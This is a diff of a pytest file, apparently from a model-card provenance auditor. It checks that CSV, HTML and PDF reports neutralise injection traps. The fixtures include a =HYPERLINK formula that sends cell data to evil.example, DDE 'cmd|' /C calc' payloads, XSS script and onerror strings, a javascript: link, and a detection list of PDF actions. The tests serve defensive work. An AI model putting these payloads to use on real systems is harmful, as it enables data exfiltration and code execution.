@@ -1,4 +1,5 @@
-"""A card full of traps leaves every form whole and inert in both languages; office programs open it."""
+"""A card full of traps leaves every form whole and inert in both languages; office programs open
+it."""
 
 from __future__ import annotations
 
@@ -29,7 +30,10 @@ from provenance.review.html import page
 BAD = "\u202e\u2066\u200b\u200d\ufeff\x1b\x07\x9b"
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 TRAPS = (
-    "<script>alert(1)</script><img src=x onerror=alert(1)></style><iframe src=https://evil.example></iframe>",
+    (
+        "<script>alert(1)</script><img src=x onerror=alert(1)></style><iframe"
+        " src=https://evil.example></iframe>"
+    ),
     FORMULA,
     "+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -68,9 +72,14 @@ def card(tmp_path_factory: pytest.TempPathFactory) -> Report:
         "<b>bold</b>.py": "import os",
         "\u202egnp.exe.bin": b"x",
     }
-    front = f"license: other\nlicense_name: '{FORMULA}'\nlicense_link: javascript:alert(1)\ndatasets: ['mallory/x']"
+    front = (
+        f"license: other\nlicense_name: '{FORMULA}'\nlicense_link: javascript:alert(1)\ndatasets:"
+        " ['mallory/x']"
+    )
     hub.model("mallory/cmd-calc", front, BODY, files=files)
-    return provenance.audit("mallory/cmd-calc", hub=str(hub.root), use={"activity": ["product"], "commercial": True})
+    return provenance.audit(
+        "mallory/cmd-calc", hub=str(hub.root), use={"activity": ["product"], "commercial": True}
+    )
 
 
 @pytest.fixture(scope="module", params=["in a card", "everywhere"])
@@ -118,7 +127,9 @@ def test_sheets(report: Report, form: str, lang: str) -> None:
         rows = list(csv.reader(io.StringIO(payload.decode("utf-8-sig"))))
     cells = [cell for row in rows for cell in row]
     assert len({len(row) for row in rows}) == 1
-    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@")) or set(BAD) & set(cell)]
+    assert not [
+        cell for cell in cells if cell.startswith(("=", "+", "-", "@")) or set(BAD) & set(cell)
+    ]
     assert max(map(len, cells)) <= 2_001
 
 
@@ -130,7 +141,10 @@ def test_html(report: Report, lang: str) -> None:
     tags.feed(told)
     assert not {"script", "img", "iframe", "object", "form", "link", "base"} & tags.names
     assert not {name for name in tags.attributes if name.startswith("on")}
-    assert all(link.startswith(("#", "https://")) and "evil" not in link.partition("#")[0] for link in tags.links)
+    assert all(
+        link.startswith(("#", "https://")) and "evil" not in link.partition("#")[0]
+        for link in tags.links
+    )
     assert "alert(1)" in told
 
 
@@ -146,7 +160,9 @@ class _Tags(HTMLParser):
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.names.add(tag)
         self.attributes |= {name for name, _ in attrs}
-        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action", "xlink:href")]
+        self.links += [
+            value or "" for name, value in attrs if name in ("href", "src", "action", "xlink:href")
+        ]
 
 
 @pytest.mark.parametrize("lang", LANGUAGES)
@@ -155,9 +171,19 @@ def test_pdf(card: Report, lang: str) -> None:
     payload = write(Review(card, lang), "pdf")
     streams = [_inflated(part) for part in re.findall(rb"stream\r?\n(.*?)endstream", payload, re.S)]
     whole = b"".join([payload, *streams])
-    for action in (b"/JavaScript", b"/Launch", b"/OpenAction", b"/EmbeddedFile", b"/SubmitForm", b"/AA "):
+    for action in (
+        b"/JavaScript",
+        b"/Launch",
+        b"/OpenAction",
+        b"/EmbeddedFile",
+        b"/SubmitForm",
+        b"/AA ",
+    ):
         assert action not in whole
-    assert all(link.startswith(b"https://") and b"evil" not in link for link in re.findall(rb"/URI \((.*?)\)", whole))
+    assert all(
+        link.startswith(b"https://") and b"evil" not in link
+        for link in re.findall(rb"/URI \((.*?)\)", whole)
+    )
 
 
 def _inflated(stream: bytes) -> bytes:
